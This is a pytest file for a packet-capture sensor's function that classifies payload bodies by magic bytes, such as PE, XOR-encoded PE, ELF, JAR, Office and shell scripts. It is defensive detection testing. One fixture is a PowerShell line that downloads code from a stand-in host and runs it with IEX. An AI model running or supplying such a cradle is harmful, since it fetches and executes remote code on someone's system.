"""Bodies are named by their bytes."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensors.pcap import content
from sensors.pcap.content import body_type

PE = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(600)
KEY = b"k3y-k3y!"


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("pe", PE),
        ("pe-xor", bytes(byte ^ 0x5A for byte in PE)),
        ("pe-xor", bytes(byte ^ KEY[at % len(KEY)] for at, byte in enumerate(PE))),
        ("elf", b"\x7fELF\1\1\1" + bytes(60)),
        ("class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x66"),
        ("jar", b"PK\3\4" + bytes(26) + b"META-INF/MANIFEST.MF"),
        ("office", b"PK\3\4" + bytes(26) + b"[Content_Types].xml"),
        ("zip", b"PK\3\4" + bytes(26) + b"readme.txt"),
        ("script", b"#!/bin/bash\necho"),
        ("windows-script", b"$x = New-Object Net.WebClient; IEX ($x.DownloadString('http://192.0.2.1/a'))"),
        ("java-object", b"\xac\xed\0\5sr\0"),
        ("png", b"\x89PNG\r\n\x1a\n"),
        (None, b"<html><body>MZ is a seal</body></html>"),
        (None, b"Mozilla and PowerShell are words"),
        (None, bytes(1024)),
        (None, b"A" * 1024),
        (None, b""),
    ],
)
def test_beginnings(kind, body):
    assert body_type(body) == kind


@given(st.binary(max_size=2000))
def test_anything_has_a_known_type_or_none(body):
    known = {None, "pe-xor", "windows-script", *(name for name, _ in content._BEGINNINGS)}
    assert body_type(body) in known
